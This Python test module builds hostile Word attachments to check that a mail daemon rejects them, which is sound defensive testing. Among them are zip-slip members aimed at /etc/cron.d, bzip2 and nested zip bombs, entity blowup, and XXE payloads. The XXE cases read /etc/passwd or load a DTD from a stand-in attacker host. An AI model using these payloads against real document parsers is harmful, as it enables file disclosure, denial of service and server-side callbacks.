"""More hostile Word attachments: zip tricks, XML tricks, lookalike formats.

The first corpus (`tests/hostile_corpus.py`) covers the classic bombs; these are what comes
next in the literature and in real mailboxes: archive members that climb out of the archive,
members encrypted or compressed with methods no Word writes, a bzip2 stream that inflates a
million times, XML that includes other files or nests beyond any parser's stack, and other
formats wearing a .docx name (documents with active content are in `hostile_active`). Each
builder returns the bytes of one attachment; `tests/hostile_corpus.CORPUS` names them with the
code the daemon must give.
"""

from __future__ import annotations

import io
import random
import re
import struct
import warnings
import zipfile

import olefile
import pyzipper

from tests.hostile_blocks import (
    CORPUS_PASSWORD,
    base_docx,
    build_zip,
    encrypted,
    minimal_docx,
    parts_of,
    rebuild_encrypted,
    referral_docx,
    replace_part,
)

_DOCUMENT = "word/document.xml"
_EOCD = b"PK\x05\x06"
FORM_SEEDS = range(601, 603)  # the referrals inside the files that are read as forms


def _document(docx: bytes | None = None) -> str:
    return dict(parts_of(docx or base_docx()))[_DOCUMENT].decode()


def _with_dtd(dtd: str, body_insert: str = "") -> bytes:
    declaration, _, rest = _document().partition("?>")
    hostile = f"{declaration}?>{dtd}{rest}"
    if body_insert:
        hostile = hostile.replace("<w:body>", f"<w:body>{body_insert}", 1)
    return replace_part(base_docx(), _DOCUMENT, hostile.encode())


# -- archive tricks --------------------------------------------------------------------------


def path_traversal() -> bytes:
    """The form plus a member named '../../../../etc/cron.d/mailbot' (zip slip)."""
    return build_zip([*parts_of(base_docx()), ("../../../../etc/cron.d/mailbot", b"* * * *")])


def absolute_path() -> bytes:
    """The form plus a member named '/etc/passwd'."""
    return build_zip([*parts_of(base_docx()), ("/etc/passwd", b"root:x:0:0")])


def duplicate_document() -> bytes:
    """Two word/document.xml members: a checker and a reader may pick different ones."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile: "Duplicate name" (the point)
        return build_zip([*parts_of(base_docx()), (_DOCUMENT, b"<not-the-form/>")])


def aes_encrypted_members() -> bytes:
    """Every member AES-encrypted inside the zip (WinZip style), not Office encryption."""
    buffer = io.BytesIO()
    with pyzipper.AESZipFile(
        buffer, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES
    ) as archive:
        archive.setpassword(CORPUS_PASSWORD.encode())
        for name, data in parts_of(base_docx()):
            archive.writestr(name, data)
    return buffer.getvalue()


def bzip2_bomb() -> bytes:
    """document.xml compressed with bzip2 (method 12): 30 MB of spaces in ~100 bytes."""
    payload = _document().encode() + b" " * (30 << 20)
    parts = [(n, d) for n, d in parts_of(base_docx()) if n != _DOCUMENT]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in parts:
            archive.writestr(
                zipfile.ZipInfo(name, (2026, 11, 2, 9, 0, 0)),
                data,
                compress_type=zipfile.ZIP_DEFLATED,
            )
        archive.writestr(
            zipfile.ZipInfo(_DOCUMENT, (2026, 11, 2, 9, 0, 0)),
            payload,
            compress_type=zipfile.ZIP_BZIP2,
        )
    return buffer.getvalue()


def unknown_compression() -> bytes:
    """document.xml declared with compression method 99 (which no reader here supports)."""
    data = bytearray(base_docx())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo(_DOCUMENT)
        local, central = info.header_offset, archive.start_dir
    struct.pack_into("<H", data, local + 8, 99)
    at = data.index(b"PK\x01\x02" + bytes(data[central + 4 : central + 10]), central)
    while data[at + 46 : at + 46 + len(_DOCUMENT)] != _DOCUMENT.encode():
        at = data.index(b"PK\x01\x02", at + 4)
    struct.pack_into("<H", data, at + 10, 99)
    return bytes(data)


def directory_beyond_end() -> bytes:
    """The end record points the central directory 1 GB past the end of the file."""
    data = bytearray(base_docx())
    end = data.rindex(_EOCD)
    struct.pack_into("<I", data, end + 16, 1 << 30)
    return bytes(data)


def empty_zip() -> bytes:
    """A valid zip archive with no members at all (22 bytes)."""
    return build_zip([])


def prepended_junk() -> bytes:
    """20 KB of random bytes in front of a valid .docx (self-extractor style)."""
    return random.Random(21).randbytes(20_000) + base_docx()


def nested_zip_bomb() -> bytes:
    """The form carrying word/embeddings/bomb.zip: zips of zips, 10 x 10 x 10 MB of zeros."""
    level = build_zip([("zeros", b"\0" * (10 << 20))])
    for _ in range(2):
        level = build_zip([(f"{n}.zip", level) for n in range(10)], compression=zipfile.ZIP_STORED)
    return build_zip([*parts_of(base_docx()), ("word/embeddings/bomb.zip", level)])


# -- XML tricks ------------------------------------------------------------------------------


def quadratic_blowup() -> bytes:
    """One 20 KB entity referenced 20,000 times: 400 MB of text from one small part."""
    return _with_dtd(
        f'<!DOCTYPE w:document [<!ENTITY a "{"x" * 20_000}">]>',
        "<w:p><w:r><w:t>" + "&a;" * 20_000 + "</w:t></w:r></w:p>",
    )


def external_dtd() -> bytes:
    """A DOCTYPE loading its DTD from a web server (a callback that would reveal the reader)."""
    return _with_dtd('<!DOCTYPE w:document SYSTEM "http://attacker.invalid/evil.dtd">')


def parameter_entity() -> bytes:
    """An external parameter entity reading /etc/passwd inside the DTD."""
    return _with_dtd('<!DOCTYPE w:document [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>')


def xinclude() -> bytes:
    """An XInclude element pulling /etc/passwd into the document body."""
    form = referral_docx(601)
    return replace_part(
        form,
        _DOCUMENT,
        _document(form)
        .replace(
            "<w:body>",
            '<w:body><xi:include xmlns:xi="http://www.w3.org/2001/XInclude"'
            ' href="file:///etc/passwd" parse="text"/>',
            1,
        )
        .encode(),
    )


def deep_nesting() -> bytes:
    """100,000 nested elements in the body (deeper than any XML parser's stack should go)."""
    deep = "<w:sdt>" * 100_000 + "</w:sdt>" * 100_000
    return replace_part(
        base_docx(), _DOCUMENT, _document().replace("<w:body>", f"<w:body>{deep}", 1).encode()
    )


def utf7_declaration() -> bytes:
    """document.xml declaring encoding="UTF-7" (smuggles markup past naive filters)."""
    form = referral_docx(602)
    text, count = re.subn(
        r"""encoding=(["'])[^"']+\1""", 'encoding="UTF-7"', _document(form), count=1
    )
    assert count == 1  # the form's own declaration, in whichever quotes it uses
    return replace_part(form, _DOCUMENT, text.encode())


def empty_document_part() -> bytes:
    """word/document.xml present but zero bytes long."""
    return replace_part(base_docx(), _DOCUMENT, b"")


def no_content_types() -> bytes:
    """The form without [Content_Types].xml (so no part has a declared type)."""
    return build_zip([(n, d) for n, d in parts_of(base_docx()) if n != "[Content_Types].xml"])


# -- lookalikes and broken containers ----------------------------------------------------------


def rtf_named_docx() -> bytes:
    """An RTF document named .docx (Word opens it; RTF exploits are common)."""
    return b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105000002000000}}}"


def html_named_docx() -> bytes:
    """Word's "web page" HTML named .docx."""
    return b"<html xmlns:w='urn:schemas-microsoft-com:office:word'><body>Referral</body></html>"


def xlsx_named_docx() -> bytes:
    """An Excel workbook package named .docx."""
    types = (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/content-types"><Override PartName="/xl/workbook.xml" ContentType='
        b'"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        b"</Types>"
    )
    return build_zip([("[Content_Types].xml", types), ("xl/workbook.xml", b"<workbook/>")])


def encrypted_lying_package_size() -> bytes:
    """An encrypted form whose EncryptedPackage claims to hold 4 GB of plaintext."""
    with olefile.OleFileIO(io.BytesIO(encrypted())) as ole:
        info = ole.openstream("EncryptionInfo").read()
        package = ole.openstream("EncryptedPackage").read()
    return rebuild_encrypted(struct.pack("<Q", 0xFFFFFFFF) + package[8:], info)


def ole_fat_loop() -> bytes:
    """An OLE compound file whose sector chain loops back on itself."""
    data = bytearray(encrypted(spin_count=1))
    first_fat = struct.unpack_from("<I", data, 0x4C)[0]
    fat = 512 * (first_fat + 1)
    for n in range(4):
        struct.pack_into("<I", data, fat + 4 * n, n)  # each sector points at itself
    return bytes(data)


def minimal_with_macro_name() -> bytes:
    """A tiny package whose only oddity is a 'vbaData.xml' member (macro settings)."""
    return build_zip([*parts_of(minimal_docx()), ("word/vbaData.xml", b"<wne:vbaSuppData/>")])
